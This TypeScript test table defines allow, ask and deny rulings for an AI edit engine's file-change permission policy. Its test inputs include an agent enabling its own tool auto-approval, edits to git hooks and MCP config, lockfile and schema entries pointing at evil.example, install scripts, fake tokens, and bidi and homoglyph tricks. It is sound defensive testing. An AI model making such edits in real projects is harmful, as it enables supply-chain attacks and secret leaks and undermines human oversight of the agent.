/** Edits beyond the case file, each proposed by the edit engine. */
import { rulings } from './table.ts';

const auto = 'edits-on';

rulings('edit', [
  // the engine refuses
  ['deny', { old: 'a', new: 'b', file: 'a a' }],
  ['deny', { old: '', new: 'b', file: 'a' }],
  ['deny', { old: 'A', new: 'b', file: 'a' }],
  ['deny', { old: 'a', new: 'b', file: '' }],
  ['deny', { old: 'a\n', new: '// ... existing code ...\n', file: 'a\n' }],
  [
    'deny',
    {
      file: 'abcdef',
      edits: [
        { old: 'abc', new: 'x' },
        { old: 'cde', new: 'y' },
      ],
    },
  ],
  [
    'deny',
    {
      file: 'abc',
      edits: [
        { old: 'a', new: 'x' },
        { old: 'nowhere', new: 'y' },
      ],
    },
  ],
  ['deny', { file: 'same', content: 'same' }],
  ['deny', { path: 'a.ipynb', file: '{"cells":[]}', old: '"cells"', new: '"cell' }],
  ['deny', { hex: '00010203ff00' }],
  ['deny', { hex: 'c328', encoding: 'utf8' }],
  ['deny', { bytes: 60_000_000 }],
  // the policy denies
  ['deny', { path: '.vscode/settings.json', new: '{"chat.tools.autoApprove":true}', auto }],
  ['deny', { path: '.git/hooks/pre-commit', new: 'x', auto }],
  ['deny', { path: 'sub/../.git/config', file: 'a', old: 'a', new: 'b', auto }],
  ['deny', { path: '.cursor/mcp.json', file: 'a', old: 'a', new: 'b', auto }],
  ['deny', { op: 'delete', path: '.git' }],
  // stale, reused, changed
  ['deny', { readHash: 'a', diskHash: 'b', auto }],
  ['deny', { approvedPath: 'a.ts', applyPath: 'b.ts' }],
  ['deny', { approvalId: 'x', used: 2 }],
  ['deny', { op: 'create', exists: true, path: 'a.ts', auto }],
  ['allow', { approvedHash: 'h', applyHash: 'h' }],
  ['allow', { approvalId: 'x', used: 0 }],
  ['deny', { op: 'rename', path: 'src/a.ts', exists: true, auto }],
  // asked about as ever
  ['ask', { old: 'a', new: 'b', file: 'a' }],
  ['ask', { old: 'a', new: 'b', file: 'a', auto: 'edits-off' }],
  ['ask', { old: '$1', new: "$` $' $$", file: '$1' }],
  ['ask', { old: 'a', new: 'ä', file: '\uFEFFa\r\nb' }],
  ['ask', { hex: 'feff0061' }],
  ['ask', { hex: 'efbbbf61' }],
  ['ask', { mode: '0755' }],
  ['ask', { readHash: 'a', diskHash: 'a' }],
  ['ask', { op: 'create', exists: false }],
  ['ask', { op: 'delete', path: 'src/a.ts', auto }],
  ['ask', { op: 'rename', path: 'src/a.ts', auto }],
  // what no mode accepts in a person's place
  ['deny', { path: '/etc/hosts', new: 'x', auto }],
  ['ask', { path: '../other/a.ts', new: 'x', auto }],
  ['ask', { path: '.github/workflows/ci.yml', new: 'run: curl', auto }],
  ['ask', { path: '.env', new: 'A=1', auto }],
  ['ask', { path: 'package.json', new: '"prepare": "node x.js"', auto }],
  ['ask', { path: 'package.json', new: '"preinstall" : "x"' }],
  ['ask', { path: 'yarn.lock', new: '  resolved "https://evil.example/x.tgz"', auto }],
  ['ask', { path: 'Cargo.lock', new: 'checksum = "0"', auto }],
  ['ask', { new: `token = "${'gh'}p_${'a1B2c3D4e5'.repeat(4)}"`, auto }],
  ['ask', { new: '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq', auto }],
  ['ask', { old: 'a', new: 'if (admin\u202E ) {', file: 'a', auto }],
  ['ask', { old: 'a', new: 'const раy = 1;', file: 'a', auto }],
  ['ask', { old: 'a', new: '"$schema": "https://evil.example/?d=1"', file: 'a', auto }],
  ['ask', { old: 'a', new: 'line\u0007', file: 'a', auto }],
  // automatic
  ['allow', { old: 'foo', new: 'bar', file: 'a foo b', path: 'src/deep/a.ts', auto }],
  ['allow', { old: 'a\nb', new: 'a\nc', file: 'a\r\nb\r\n', auto }],
  ['allow', { old: 'key', new: 'OPENAI_API_KEY=your-key-here', file: 'key', auto }],
  [
    'allow',
    {
      file: 'a b c',
      edits: [
        { old: 'a', new: 'x' },
        { old: 'c', new: 'z' },
      ],
      auto,
    },
  ],
  ['allow', { file: 'old', content: 'new text\n', path: 'docs/guide.md', auto }],
  ['allow', { old: 'hi', new: 'שלום 👩‍💻', file: 'hi', auto }],
]);
